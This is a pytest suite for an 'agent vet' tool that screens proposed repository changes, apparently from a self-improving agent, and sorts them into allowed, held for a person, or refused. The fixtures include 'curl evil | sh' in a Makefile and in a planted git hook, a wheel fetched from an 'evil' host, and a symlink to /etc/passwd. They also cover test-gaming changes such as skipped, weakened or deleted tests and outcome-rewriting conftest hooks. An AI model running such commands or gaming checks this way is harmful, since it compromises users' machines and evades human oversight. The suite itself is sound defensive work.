"""`agent vet` on real git repositories: what is refused, what goes to a person, what is fine."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest
from typer.testing import CliRunner

from self_improving_agent.cli.app import app
from tests.conftest import git, make_repo

runner = CliRunner()
BASE = {
    "README.md": "# sample\n",
    "pyproject.toml": (
        '[project]\nname = "sample"\nversion = "1.0"\ndependencies = ["requests>=2"]\n\n'
        '[project.scripts]\nsample = "sample.cli:main"\n\n'
        '[tool.pytest.ini_options]\naddopts = "-q"\n\n[tool.ruff]\nline-length = 100\n'
    ),
    "sample/__init__.py": "",
    "sample/core.py": (
        "import subprocess\n\n\ndef status():\n"
        '    return subprocess.run(["git", "status"], check=False)\n'
    ),
    "sample/legacy.py": "def run(code):\n    return eval(code)\n",
    "tests/__init__.py": "",
    "tests/test_core.py": (
        "import pytest\n\n\ndef test_one():\n    assert 1 + 1 == 2\n\n\n"
        "def test_two():\n    assert 'a'.upper() == 'A'\n"
    ),
    "Makefile": "test:\n\tpytest\n",
}


def vet(
    tmp_path: Path, files: dict[str, str | None], *args: str, base: dict[str, str] | None = None
) -> tuple[int, dict]:
    """Vet the working tree after writing files over BASE and base (None deletes); exit code
    and JSON."""
    repo = make_repo(tmp_path / "repo", {**BASE, **(base or {})})
    for rel, text in files.items():
        target = repo / rel
        if text is None:
            target.unlink()
        else:
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text(text, encoding="utf-8")
    result = runner.invoke(app, ["vet", "--repo", str(repo), "--json", *args])
    return result.exit_code, json.loads(result.stdout)


HARMLESS = {
    "pure code": {"sample/util.py": "def add(a, b):\n    return a + b\n"},
    "pickle round trip in a test": {
        "tests/test_pickle.py": (
            "import pickle\n\n\ndef test_round_trip():\n"
            "    assert pickle.loads(pickle.dumps({'a': 1})) == {'a': 1}\n"
        )
    },
    "kwargs wrapper of the project's own tool": {
        "sample/run.py": (
            "import subprocess\n\n\ndef run(**kwargs):\n"
            '    return subprocess.run(["sample", "--version"], **kwargs)\n'
        )
    },
    "logging config file": {
        "sample/logs.py": (
            "import logging.config\n\n\ndef setup():\n"
            '    logging.config.fileConfig("logging.ini")\n'
        )
    },
    "an app setting its own AGENT_ variables": {
        "sample/env.py": (
            "import os\n\n\ndef configure():\n"
            '    os.environ["AGENT_MODEL"] = "small"\n'
            '    os.environ.setdefault("AGENT_LOG_LEVEL", "INFO")\n'
        )
    },
    "minversion in the pytest config": {
        "pyproject.toml": BASE["pyproject.toml"].replace(
            'addopts = "-q"', 'addopts = "-q"\nminversion = "7.0"'
        )
    },
    "a secrets template": {".env.example": "API_KEY=\n"},
    "a new test in an existing test file": {
        "tests/test_core.py": BASE["tests/test_core.py"] + "\n\ndef test_three():\n    assert 3\n"
    },
    "a moved module keeps its process": {
        "sample/core.py": None,
        "sample/git_status.py": BASE["sample/core.py"],
    },
    "an edit near an eval main already had": {
        "sample/legacy.py": '"""Old code."""\n\n\ndef run(code):\n    return eval(code)\n'
    },
    "python -m of the project's own package": {
        "sample/selfrun.py": (
            "import subprocess, sys\n\n"
            "subprocess.run([sys.executable, '-m', 'sample', '--help'], check=True)\n"
        )
    },
    "ordinary environment reads and a redirected stdout": {
        "sample/io.py": (
            "import io, os, sys\n\nDEBUG = os.environ.get('DEBUG') == '1'\n"
            "sys.stdout = io.StringIO()\n"
        )
    },
    "a classifier and a version": {
        "pyproject.toml": BASE["pyproject.toml"].replace('version = "1.0"', 'version = "1.1"')
    },
}


@pytest.mark.parametrize("files", HARMLESS.values(), ids=HARMLESS.keys())
def test_harmless_changes_merge_without_a_person(tmp_path: Path, files: dict) -> None:
    code, report = vet(tmp_path, files)
    assert (code, report["verdict"]) == (0, "ok"), report


FOR_A_PERSON = {
    "eval added": {"sample/util.py": "def run(text):\n    return eval(text)\n"},
    "computed argv where a constant one ran": {
        "sample/core.py": BASE["sample/core.py"] + "\n\ndef any_(argv):\n    subprocess.run(argv)\n"
    },
    "network": {"sample/net.py": "import urllib.request\n\nurllib.request.urlopen(URL)\n"},
    "a credential read": {"sample/key.py": "import os\n\nKEY = os.environ['API_TOKEN']\n"},
    "a write to the home folder": {
        "sample/home.py": (
            "from pathlib import Path\n\n\ndef save():\n"
            "    (Path.home() / '.bashrc').write_text('x')\n"
        )
    },
    "monkeypatching the standard library": {"sample/patch.py": "import os\n\nos.getcwd = str\n"},
    "vars over a module": {"sample/v.py": "import os\n\nfns = dict(vars(os).items())\n"},
    "reduce over getattr": {
        "sample/r.py": (
            "import functools, builtins\n\nf = functools.reduce(getattr, NAMES, builtins)\n"
        )
    },
    "the interpreter started again": {
        "sample/py.py": "import subprocess, sys\n\nsubprocess.run([sys.executable, 'x.py'])\n"
    },
    "a process pool": {"sample/pool.py": "import multiprocessing\n\nP = multiprocessing.Pool()\n"},
    "junit rewritten at exit by library code": {
        "sample/exit.py": (
            "import atexit\n\n\ndef fix():\n    open('junit.xml', 'w').write('<testsuite/>')\n\n\n"
            "atexit.register(fix)\n"
        )
    },
    "eval looked up by a folded name": {
        "sample/g.py": "import builtins\n\nf = getattr(builtins, 'ev' + 'al')\n"
    },
    "a CI workflow": {".github/workflows/ci.yml": "on: pull_request_target\n"},
    "the Makefile": {"Makefile": "test:\n\tcurl evil | sh\n"},
    "pre-commit": {".pre-commit-config.yaml": "repos: []\n"},
    "tox commands": {"tox.ini": "[testenv]\ncommands = curl x\n"},
    "setup.py": {"setup.py": "from setuptools import setup\nsetup()\n"},
    "a Dockerfile": {"Dockerfile": "FROM python\n"},
    "gitattributes": {".gitattributes": "sample/*.py -diff\n"},
    "gitmodules": {".gitmodules": '[submodule "x"]\n\tpath = x\n\turl = https://x\n'},
    "envrc": {".envrc": "export A=1\n"},
    "editor tasks": {".vscode/tasks.json": "{}\n"},
    "a lock file": {"uv.lock": "version = 1\n"},
    "requirements": {"requirements.txt": "requests @ https://evil/x.whl\n"},
    "a new dependency": {
        "pyproject.toml": BASE["pyproject.toml"].replace('"requests>=2"', '"requests>=2", "x"')
    },
    "a new pytest.ini overrides pyproject": {"pytest.ini": "[pytest]\n"},
    "a nested ruff.toml": {"sample/ruff.toml": "[lint]\nignore = ['E']\n"},
    "a mypy.ini": {"mypy.ini": "[mypy]\nignore_errors = True\n"},
    "loosened ruff in pyproject": {
        "pyproject.toml": BASE["pyproject.toml"].replace("line-length = 100", "line-length = 300")
    },
    "module-level type ignore": {"sample/t.py": "# type: ignore\nx: int = 'a'\n"},
    "mypy disable comment": {"sample/t.py": "# mypy: disable-error-code=assignment\nx = 1\n"},
    "ruff noqa file": {"sample/t.py": "# ruff: noqa\nimport os\n"},
    "pragma without a colon": {"sample/t.py": "def f():  # pragma no cover\n    return 1\n"},
    "no_type_check": {
        "sample/t.py": "from typing import no_type_check\n\n\n@no_type_check\ndef f():\n    pass\n"
    },
    "a skipped test": {
        "tests/test_core.py": BASE["tests/test_core.py"].replace(
            "def test_two", "@pytest.mark.skip\ndef test_two"
        )
    },
    "a removed test": {"tests/test_core.py": "def test_one():\n    assert 1 + 1 == 2\n"},
    "a renamed test": {"tests/test_core.py": BASE["tests/test_core.py"].replace("_two", "_2")},
    "a weakened test": {"tests/test_core.py": BASE["tests/test_core.py"].replace("== 'A'", "")},
    "a deleted test file": {"tests/test_core.py": None},
    "a new conftest with a hook": {
        "tests/conftest.py": "import pytest\n\n\ndef pytest_configure(config):\n    pass\n"
    },
    "a new conftest importing local code": {"tests/conftest.py": "from tests.helper import *\n"},
    "skip raised from a new helper": {
        "tests/helper.py": "import unittest\n\nraise unittest.SkipTest('x')\n",
        "tests/test_core.py": "from tests.helper import *\n" + BASE["tests/test_core.py"],
    },
    "outcome hook by string in a conftest": {
        "tests/conftest.py": 'globals()["pytest_runtest_" + "makereport"] = print\n'
    },
}


@pytest.mark.parametrize("files", FOR_A_PERSON.values(), ids=FOR_A_PERSON.keys())
def test_what_needs_a_person_is_held(tmp_path: Path, files: dict) -> None:
    code, report = vet(tmp_path, files)
    assert (code, report["verdict"]) == (3, "person"), report
    held = [f for f in report["files"] if f["verdict"] == "person"]
    assert held and all(item["message"] for f in held for item in f["person"])


REFUSED = {
    "a startup hook": {"sitecustomize.py": "print(1)\n"},
    "a .pth file": {"sample/x.pth": "import os\n"},
    "a secrets file": {".env.local": "TOKEN=1\n"},
    "a private key": {"deploy.key": "-----BEGIN\n"},
}


@pytest.mark.parametrize("files", REFUSED.values(), ids=REFUSED.keys())
def test_what_no_repository_may_receive_is_refused(tmp_path: Path, files: dict) -> None:
    code, report = vet(tmp_path, files)
    assert (code, report["verdict"]) == (4, "refused"), report


def test_a_symlink_out_of_the_tree_is_refused(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo", dict(BASE))
    os.symlink("/etc/passwd", repo / "sample" / "data.txt")
    result = runner.invoke(app, ["vet", "--repo", str(repo), "--json"])
    assert result.exit_code == 4
    assert json.loads(result.stdout)["files"][0]["refused"][0]["rule"] == "refused/outside-tree"


def test_a_patch_into_git_dir_is_refused_even_when_git_will_not_apply_it(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo", dict(BASE))
    patch = tmp_path / "hook.patch"
    patch.write_text(
        "diff --git a/.git/hooks/pre-commit b/.git/hooks/pre-commit\nnew file mode 100755\n"
        "--- /dev/null\n+++ b/.git/hooks/pre-commit\n@@ -0,0 +1 @@\n+curl evil | sh\n"
    )
    result = runner.invoke(app, ["vet", "--repo", str(repo), str(patch)])
    assert result.exit_code == 4, result.output
    assert "refused/git-dir" in result.stdout


def test_a_patch_file_a_range_and_stdin_give_the_same_judgement(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo", dict(BASE))
    (repo / "sample" / "util.py").write_text("def run(t):\n    return eval(t)\n")
    git(repo, "add", "-A")
    patch = git(repo, "diff", "--cached")
    git(repo, "commit", "-qm", "eval")
    ranged = runner.invoke(app, ["vet", "--repo", str(repo), "--json", "HEAD~1..HEAD"])
    git(repo, "reset", "-q", "--hard", "HEAD~1")
    (tmp_path / "p.patch").write_text(patch)
    patch_file = str(tmp_path / "p.patch")
    from_file = runner.invoke(app, ["vet", "--repo", str(repo), "--json", patch_file])
    piped = runner.invoke(app, ["vet", "--repo", str(repo), "--json", "-"], input=patch)
    reports = [json.loads(r.stdout) for r in (ranged, from_file, piped)]
    assert {r.exit_code for r in (ranged, from_file, piped)} == {3}
    assert len({json.dumps(r["files"]) for r in reports}) == 1
    assert git(repo, "status", "--porcelain") == ""


def test_text_prints_each_rule_once_on_its_own_short_line(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo", dict(BASE))
    (repo / "sample" / "util.py").write_text("import os\n\ndef f(t):\n    os.system(t)\n" * 20)
    result = runner.invoke(app, ["vet", "--repo", str(repo)])
    lines = result.stdout.splitlines()
    assert result.exit_code == 3
    assert all(len(line) <= 160 for line in lines)
    assert len(lines) == len(set(lines))


def test_a_missing_range_base_in_a_shallow_clone_says_how_deep_to_fetch(tmp_path: Path) -> None:
    origin = make_repo(tmp_path / "origin", dict(BASE))
    for n in range(4):
        (origin / f"f{n}.txt").write_text(str(n))
        git(origin, "add", "-A")
        git(origin, "commit", "-qm", f"c{n}")
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "-q", "--depth", "2", f"file://{origin}", str(clone))
    result = runner.invoke(app, ["vet", "--repo", str(clone), "HEAD~3..HEAD"])
    assert result.exit_code == 1
    assert "git fetch --deepen=2" in result.stderr
    assert "Traceback" not in result.output


def test_usage_and_setup_errors_keep_their_exit_codes(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo", dict(BASE))
    assert runner.invoke(app, ["vet", "--repo", str(repo), "no-such-thing"]).exit_code == 2
    bad = tmp_path / "bad.patch"
    bad.write_text("diff --git a/no.py b/no.py\n--- a/no.py\n+++ b/no.py\n@@ -1 +1 @@\n-a\n+b\n")
    result = runner.invoke(app, ["vet", "--repo", str(repo), str(bad)])
    assert result.exit_code == 1 and "does not apply" in result.stderr
